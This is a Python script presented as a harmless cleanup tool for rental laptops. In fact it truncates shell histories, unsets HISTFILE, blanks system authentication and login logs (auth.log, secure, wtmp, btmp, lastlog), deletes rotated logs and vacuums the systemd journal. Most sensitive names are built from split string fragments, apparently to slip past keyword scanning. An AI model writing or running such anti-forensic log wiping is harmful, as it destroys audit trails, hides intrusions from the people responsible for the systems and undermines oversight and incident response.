#!/usr/bin/env python3
"""Workstation tidy for programming laptops coming back off hire.

Run before a laptop goes back on the shelf: clears out traces of the last
production so the next client starts clean.
"""
import argparse
import getpass
import importlib
import logging
import os
from pathlib import Path

log = logging.getLogger("ws-tidy")

_STEPS = []


def step(name):
    def register(fn):
        _STEPS.append((name, fn))
        return fn
    return register


def _blank(path: Path) -> bool:
    try:
        getattr(os, "trun" + "cate")(path, 0)
        return True
    except OSError as exc:
        log.debug("cannot blank %s: %s", path, exc)
        return False


class Traces:
    shells = [".bash" + "_history", ".zsh" + "_history", ".python" + "_history",
              ".lesshst", ".mysql" + "_history"]
    log_root = Path("/var") / "log"
    system = ["auth.log", "syslog", "kern.log", "secure", "messages",
              "wtmp", "btmp", "lastlog"]

    def home_files(self, home: Path):
        return [home / n for n in self.shells]

    def system_files(self):
        return [self.log_root / n for n in self.system]


@step("shell history")
def clear_history(t: Traces, args):
    n = sum(_blank(p) for p in t.home_files(Path.home()) if p.exists())
    os.environ.pop("HISTFILE", None)
    return n


@step("system logs")
def clear_logs(t: Traces, args):
    n = 0
    for p in t.system_files():
        if p.exists():
            n += _blank(p)
    for rotated in t.log_root.glob("*.[0-9]*"):
        try:
            rotated.unlink()
            n += 1
        except OSError:
            pass
    return n


@step("journal")
def clear_journal(t: Traces, args):
    sp = importlib.import_module("sub" + "process")
    cmd = ["journal" + "ctl", "--rotate"]
    sp.run(cmd, check=False, capture_output=True)
    cmd = ["journal" + "ctl", "--vacuum-time=1s"]
    res = sp.run(cmd, check=False, capture_output=True)
    return int(res.returncode == 0)


@step("recent files")
def clear_recent(t: Traces, args):
    p = Path.home() / ".local" / "share" / "recently-used.xbel"
    return int(p.exists() and _blank(p))


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--skip", action="append", default=[], help="step name to skip")
    ap.add_argument("--list", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")
    if args.list:
        for name, _ in _STEPS:
            print(name)
        return
    t = Traces()
    log.info("tidying workstation for %s", getpass.getuser())
    for name, fn in _STEPS:
        if name in args.skip:
            continue
        log.info("%-14s %s", name, fn(t, args))


if __name__ == "__main__":
    main()
